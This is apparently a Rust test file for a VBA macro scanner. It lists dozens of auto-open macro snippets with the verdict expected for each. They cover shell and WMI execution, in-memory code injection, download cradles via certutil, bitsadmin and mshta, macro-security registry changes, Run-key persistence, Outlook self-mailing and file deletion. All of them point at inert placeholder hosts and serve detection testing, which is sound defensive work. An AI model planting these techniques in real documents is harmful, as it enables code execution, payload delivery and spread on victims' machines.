//! Each kind of act, with one start: the document or workbook is opened.
//!
//! Rows are named as in the list of kinds: X01 to X26 execute, D01 to D21 fetch, write, stay, lower
//! protection or look round. A line `'= verdict: row` opens an act; declarations and references
//! are told by their first word, all else goes into the procedure.

use macrosift::Verdict::{Macro, Malicious, Suspicious};

use crate::sketch::Expect::{AtLeast, Is};
use crate::sketch::Office::{Excel, Word};
use crate::sketch::{Wrong, inputs};

const EXECUTION: &str = r##"
'= block: X01
Shell "inert-test.invalid", vbHide

'= block: X01 qualified
VBA.Shell "inert-test.invalid"

'= block: X01 of its module
x = Interaction.Shell("inert-test.invalid", 0)

'= block: X01 in brackets
[Shell] "inert-test.invalid"

'= block: X01 with Call
Call VBA.Interaction.Shell("inert-test.invalid")

'= block: X02 Run
CreateObject("WScript.Shell").Run "inert-test.invalid", 0

'= block: X02 Exec
Set s = CreateObject("WScript.Shell")
s.Exec "inert-test.invalid"

'= block: X02 versioned
With VBA.CreateObject("wscript.shell.1")
.Run ("inert-test.invalid")
End With

'= block: X03
'# reference IWshRuntimeLibrary *\G{F935DC20-1CF0-11D0-ADB9-00C04FD58A0B}#1.0#0#C:\Windows\System32\wshom.ocx#Windows Script Host Object Model
Dim s As New WshShell
s.Run "inert-test.invalid"

'= block: X03 qualified
'# reference IWshRuntimeLibrary *\G{F935DC20-1CF0-11D0-ADB9-00C04FD58A0B}#1.0#0#C:\Windows\System32\wshom.ocx#Windows Script Host Object Model
Dim s As IWshRuntimeLibrary.WshShell
Set s = New IWshRuntimeLibrary.WshShell
s.Exec "inert-test.invalid"

'= block: X04
CreateObject("Shell.Application").ShellExecute "inert-test.invalid"

'= block: X04 by number
GetObject("new:{13709620-C279-11CE-A49E-444553540000}").ShellExecute "inert-test.invalid"

'= block: X04 windows
GetObject("new:9BA05972-F6A8-11CF-A442-00A0C90A8F39").Item.Document.Application.ShellExecute "inert-test.invalid"

'= block: X04 console
Set m = CreateObject("MMC20.Application")
m.Document.ActiveView.ExecuteShellCommand "inert-test.invalid", "", "", "7"

'= block: X05
GetObject("winmgmts:\\.\root\cimv2:Win32_Process").Create "inert-test.invalid", Null, Null, p

'= block: X05 in steps
Set w = GetObject("winmgmts:{impersonationLevel=impersonate}!\\.\root\cimv2")
Set p = w.Get("Win32_Process")
r = p.Create("inert-test.invalid", Null, Null, i)

'= block: X05 early
'# reference WbemScripting *\G{565783C6-CB41-11D1-8B02-00600806D9B6}#1.2#0#C:\Windows\System32\wbem\wbemdisp.tlb#Microsoft WMI Scripting V1.2 Library
Dim l As New SWbemLocator
Set s = l.ConnectServer(".", "root\cimv2")
s.Get("Win32_Process").Create "inert-test.invalid"

'= block: X06
Set w = GetObject("winmgmts:Win32_ScheduledJob")
w.Create "inert-test.invalid", "********120000.000000-000", False, , , True, j

'= hold: X06 installer
GetObject("winmgmts:Win32_Product").Install "https://example.invalid/inert.msi"

'= block: X07 mshta
Shell "mshta https://example.invalid/inert.hta"

'= block: X07 regsvr32
Shell "regsvr32 /s /n /u /i:https://example.invalid/inert.sct scrobj.dll"

'= block: X07 rundll32
CreateObject("WScript.Shell").Run "rundll32 inert.dll,Inert"

'= block: X07 msiexec
Shell "msiexec /q /i https://example.invalid/inert.msi"

'= block: X08
Shell "powershell -w hidden -e aQBuAGUAcgB0AA=="

'= block: X09
Shell "cmd /V:ON /c set x=inert&&!x!-test.invalid"

'= block: X10 CreateProcess
Private Declare PtrSafe Function CreateProcessA Lib "kernel32" (ByVal a As String, ByVal c As String, p As Any, t As Any, ByVal i As Long, ByVal f As Long, e As Any, ByVal d As String, s As Any, r As Any) As Long
CreateProcessA vbNullString, "inert-test.invalid", 0, 0, 0, 0, 0, vbNullString, 0, 0

'= block: X10 WinExec
Private Declare PtrSafe Function Begin Lib "kernel32" Alias "WinExec" (ByVal c As String, ByVal s As Long) As Long
Begin "inert-test.invalid", 0

'= block: X10 ShellExecute
Private Declare PtrSafe Function ShellExecute Lib "shell32.dll" Alias "ShellExecuteA" (ByVal h As LongPtr, ByVal v As String, ByVal f As String, ByVal p As String, ByVal d As String, ByVal s As Long) As LongPtr
ShellExecute 0, "open", "inert-test.invalid", "", "", 0

'= hold: X10 by number
Private Declare PtrSafe Function q Lib "shell32" Alias "#61" (ByVal a As LongPtr) As Long
q 0

'= block: X11
Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" (ByVal a As LongPtr, ByVal n As LongPtr, ByVal t As Long, ByVal p As Long) As LongPtr
Private Declare PtrSafe Sub RtlMoveMemory Lib "kernel32" (ByVal d As LongPtr, s As Any, ByVal n As LongPtr)
Private Declare PtrSafe Function CreateThread Lib "kernel32" (ByVal a As LongPtr, ByVal s As LongPtr, ByVal f As LongPtr, ByVal p As LongPtr, ByVal c As Long, i As Long) As LongPtr
Dim b(4) As Byte
m = VirtualAlloc(0, 5, &H3000, &H40)
RtlMoveMemory m, b(0), 5
CreateThread 0, 0, m, 0, 0, 0

'= block: X12
Private Declare PtrSafe Function HeapAlloc Lib "kernel32" (ByVal h As LongPtr, ByVal f As Long, ByVal n As LongPtr) As LongPtr
Private Declare PtrSafe Function Put2 Lib "kernel32" Alias "WriteProcessMemory" (ByVal p As LongPtr, ByVal a As LongPtr, ByVal b As String, ByVal n As LongPtr, w As LongPtr) As Long
Private Declare PtrSafe Function EnumSystemLanguageGroupsA Lib "kernel32" (ByVal f As LongPtr, ByVal l As Long, ByVal p As LongPtr) As Long
m = HeapAlloc(0, 0, 5)
Put2 -1, m, "inert", 5, w
EnumSystemLanguageGroupsA m, 1, 0

'= hold: X13
Private Declare PtrSafe Function DispCallFunc Lib "oleaut32" (ByVal i As LongPtr, ByVal o As LongPtr, ByVal c As Long, ByVal r As Integer, ByVal n As Long, t As Integer, p As LongPtr, v As Variant) As Long
DispCallFunc 0, n, 4, vbLong, 0, 0, 0, v

'= hold: X14
Private Declare PtrSafe Function Inert Lib "C:\Users\Public\inert.dll" () As Long
Inert

'= block: X15
c = DDEInitiate("cmd", "/c inert-test.invalid")
DDEExecute c, "inert"

'= block: X16 library
Set x = CreateObject("Excel.Application")
x.RegisterXLL "https://example.invalid/inert.xll"

'= block: X16 channel
Set x = CreateObject("Excel.Application")
x.DDEInitiate "cmd", "/c inert-test.invalid"

'= block: X17 engine
Set c = CreateObject("MSScriptControl.ScriptControl")
c.Language = "JScript"
c.Eval "new ActiveXObject('WScript.Shell').Run('inert-test.invalid')"

'= block: X17 page
Set h = CreateObject("htmlfile")
h.parentWindow.execScript "new ActiveXObject('WScript.Shell').Run('inert-test.invalid')", "JScript"

'= block: X17 style sheet
Set x = CreateObject("MSXML2.DOMDocument")
x.loadXML "<xsl:stylesheet xmlns:ms='urn:schemas-microsoft-com:xslt'><ms:script language='JScript'>new ActiveXObject(&quot;WScript.Shell&quot;).Run(&quot;inert-test.invalid&quot;)</ms:script></xsl:stylesheet>"
x.transformNode x

'= block: X18
Set t = CreateObject("Schedule.Service")
t.Connect
Set d = t.NewTask(0)
d.Actions.Create(0).Path = "inert-test.invalid"
t.GetFolder("\").RegisterTaskDefinition "inert", d, 6, , , 3

'= block: X18 command
Shell "schtasks /create /tn inert /tr inert-test.invalid /sc minute"

'= block: X19, in a workbook
ExecuteExcel4Macro "EXEC(""inert-test.invalid"")"

'= block: X19 pieces, in a workbook
Application.ExecuteExcel4Macro "CA" & "LL(""Shell32"",""ShellExecuteA"",""JJCCCCJ"",0,""open"",""inert-test.invalid"","""",0,0)"

'= hold: X19 formula, in a workbook
Excel4MacroSheets.Add
Range("A1").Formula = "=EXEC(""inert-test.invalid"")"
Application.Run "Macro1!A1"

'= hold: X20 elsewhere, in a workbook
Application.Run "'https://example.invalid/inert.xlsm'!Go"

'= block: X20 library, in a workbook
Application.RegisterXLL "C:\Users\Public\inert.xll"

'= hold: X20 add-in, in a workbook
AddIns.Add("https://example.invalid/inert.xlam").Installed = True

'= block: X21 method by name
CallByName CreateObject("WScript.Shell"), "Run", VbMethod, "inert-test.invalid"

'= hold: X21 unknown, in a workbook
Application.Run StrReverse(Range("A1")) & Chr(Range("A2")), Range("A3").Value

'= block: X22 script
GetObject "script:https://example.invalid/inert.sct"

'= block: X22 by number
GetObject("new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}").Run "inert-test.invalid"

'= hold: X23 browser
Set i = CreateObject("InternetExplorer.Application")
i.Navigate "https://example.invalid/inert"

'= hold: X23 keys
SendKeys "^{ESC}"
SendKeys "inert-test.invalid{ENTER}", True

'= hold: X24 address
ThisDocument.FollowHyperlink "https://example.invalid/inert.exe"

'= hold: X24 file
ThisDocument.FollowHyperlink "C:\Users\Public\inert.exe"

'= hold: X25 text, in a workbook
ThisWorkbook.VBProject.VBComponents.Add(1).CodeModule.AddFromString Range("A1").Value

'= hold: X25 file, in a workbook
ThisWorkbook.VBProject.VBComponents.Import Environ("TEMP") & "\inert.bas"

'= block: X26 old
MacScript "do shell script ""inert-test.invalid"""

'= hold: X26 new, in a workbook
AppleScriptTask "inert.scpt", "inert", "inert"

'= block: X26 library
#If Mac Then
Private Declare PtrSafe Function system Lib "libc.dylib" (ByVal c As String) As Long
#End If
system "inert-test.invalid"
"##;

const OTHER: &str = r##"
'= block: D01
Private Declare PtrSafe Function URLDownloadToFileA Lib "urlmon" (ByVal c As LongPtr, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal b As LongPtr) As Long
URLDownloadToFileA 0, "https://example.invalid/inert.exe", Environ("TEMP") & "\inert.exe", 0, 0

'= hold: D01 by number
Private Declare PtrSafe Function z Lib "urlmon" Alias "#172" (ByVal c As LongPtr, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal b As LongPtr) As Long
z 0, "https://example.invalid/inert.exe", "inert.exe", 0, 0

'= suspicious: D02 into cells, in a workbook
Set h = CreateObject("MSXML2.XMLHTTP")
h.Open "GET", "https://example.invalid/rates", False
h.send
Range("A1").Value = h.responseText

'= block: D02 early, into a file
'# reference MSXML2 *\G{F5078F18-C551-11D3-89B9-0000F81FE221}#6.0#0#C:\Windows\System32\msxml6.dll#Microsoft XML, v6.0
Dim h As New MSXML2.XMLHTTP60, b() As Byte
h.Open "GET", "https://example.invalid/inert.exe", False
h.send
b = h.responseBody
Open "inert.exe" For Binary As #1
Put #1, , b
Close #1

'= hold: D03
Private Declare PtrSafe Function InternetOpenA Lib "wininet" (ByVal a As String, ByVal t As Long, ByVal p As String, ByVal b As String, ByVal f As Long) As LongPtr
Private Declare PtrSafe Function InternetOpenUrlA Lib "wininet" (ByVal i As LongPtr, ByVal u As String, ByVal h As String, ByVal l As Long, ByVal f As Long, ByVal c As LongPtr) As LongPtr
InternetOpenUrlA InternetOpenA("", 0, "", "", 0), "https://example.invalid/inert", "", 0, 0, 0

'= hold: D04, in a workbook
Workbooks.Open "https://example.invalid/inert.xlsm"

'= hold: D04 in Word
Documents.Add "https://example.invalid/inert.dotm"

'= suspicious: D05, in a workbook
With ActiveSheet.QueryTables.Add("URL;https://example.invalid/rates", Range("A1"))
.Refresh False
End With

'= block: D06
Shell "certutil -urlcache -split -f https://example.invalid/inert.exe inert.exe"

'= block: D06 transfer
CreateObject("WScript.Shell").Run "bitsadmin /transfer inert https://example.invalid/inert.exe C:\inert.exe", 0

'= hold: D07
CreateObject("WScript.Shell").RegWrite "HKCU\Software\Microsoft\Office\16.0\Word\Security\VBAWarnings", 1, "REG_DWORD"

'= hold: D07 pieces
k = "HKCU\Software\Microsoft\Office\" & Application.Version & "\Word\Secu" & "rity\Access" & "VBOM"
CreateObject("WScript.Shell").RegWrite k, 1, "REG_DWORD"

'= hold: D08
Open "\\192.0.2.1@SSL@443\DavWWWRoot\inert.txt" For Input As #1

'= hold: D09
Dim b() As Byte
b = StrConv("inert", vbFromUnicode)
Open Environ("TEMP") & "\inert.exe" For Binary As #1
Put #1, , b
Close #1

'= hold: D10
Open Environ("TEMP") & "\inert.vbs" For Output As #1
Print #1, ActiveDocument.Range.Text
Close #1

'= block: D10 and started
Open Environ("TEMP") & "\inert.vbs" For Output As #1
Print #1, ActiveDocument.Range.Text
Close #1
Shell "wscript " & Environ("TEMP") & "\inert.vbs"

'= hold: D11 Excel, in a workbook
ThisWorkbook.SaveCopyAs Application.StartupPath & "\inert.xlsm"

'= hold: D11 key
CreateObject("WScript.Shell").RegWrite "HKCU\Software\Microsoft\Windows\CurrentVersion\Run\inert", "inert-test.invalid"

'= hold: D11 shortcut
Set s = CreateObject("WScript.Shell")
With s.CreateShortcut(s.SpecialFolders("Startup") & "\inert.lnk")
.TargetPath = "inert-test.invalid"
.Save
End With

'= hold: D12
Application.OrganizerCopy ThisDocument.FullName, NormalTemplate.FullName, "Module1", wdOrganizerObjectProjectItems

'= hold: D13
CreateObject("WScript.Shell").RegWrite "HKCU\Software\Microsoft\Office test\Special\Perf\", "C:\Users\Public\inert.dll"

'= pass: D14 hidden sheet, in a workbook
Application.DisplayAlerts = False
Sheets(2).Visible = xlSheetVeryHidden

'= hold: D14 own module, in a workbook
With ThisWorkbook.VBProject.VBComponents
.Remove .Item("Module1")
End With

'= pass: D15
MsgBox "Word experienced an error trying to open the file.", vbCritical

'= pass: D16
If Application.RecentFiles.Count < 3 Then Exit Sub
MsgBox "Welcome"

'= pass: D17, in a workbook
If Application.International(xlCountrySetting) <> 81 Then MsgBox "Japan only"

'= hold: D18, in a workbook
For i = 1 To 20
s = s & Chr(Cells(i, 1).Value Xor Cells(1, 2).Value)
Next
CreateObject(s).Run Cells(30, 1).Value

'= block: D18 started, in a workbook
For i = 1 To 20
s = s & Chr(Cells(i, 1).Value Xor Cells(1, 2).Value)
Next
Shell s

'= pass: D19, in a workbook
Application.Wait Now + TimeValue("00:00:03")
Range("A1").Value = Timer

'= hold: D20
Set o = CreateObject("Outlook.Application")
For Each a In o.Session.GetDefaultFolder(10).Items
With o.CreateItem(0)
.To = a.Email1Address
.Attachments.Add ThisDocument.FullName
.Send
End With
Next

'= hold: D21
f = Dir("C:\inert\*.doc")
Do While f <> ""
Kill "C:\inert\" & f
f = Dir
Loop
"##;

fn check(acts: &str) {
    let mut wrong = Wrong::default();
    for act in acts.split("\n'= ").skip(1) {
        let (title, lines) = act.split_once('\n').unwrap();
        let (verdict, row) = title.split_once(": ").unwrap();
        let expect = match verdict {
            "block" => Is(Malicious),
            "suspicious" => Is(Suspicious),
            "hold" => AtLeast(Suspicious),
            "pass" => Is(Macro),
            _ => panic!("{verdict} is no verdict"),
        };
        let (office, module, start) = if row.ends_with(", in a workbook") {
            (Excel, "workbook ThisWorkbook", "Workbook_Open")
        } else {
            (Word, "document ThisDocument", "Document_Open")
        };
        let (references, lines): (Vec<_>, Vec<_>) =
            lines.lines().partition(|line| line.starts_with("'# "));
        let declares = |line: &&str| line.starts_with("Private Declare") || line.starts_with('#');
        let (declarations, statements): (Vec<_>, Vec<_>) = lines.into_iter().partition(declares);
        let text = format!(
            "{}\n'# {module}\n{}\nPrivate Sub {start}()\n    If Now > 0 Then Exit Sub\n    {}\nEnd Sub\n",
            references.join("\n"),
            declarations.join("\n"),
            statements.join("\n    ").trim_end()
        );
        wrong.understood(row, &text);
        for input in inputs(office, &text) {
            wrong.verdict(row, &input, expect);
        }
    }
    wrong.none();
}

#[test]
fn acts_that_execute() {
    check(EXECUTION);
}

#[test]
fn acts_that_fetch_write_and_stay() {
    check(OTHER);
}
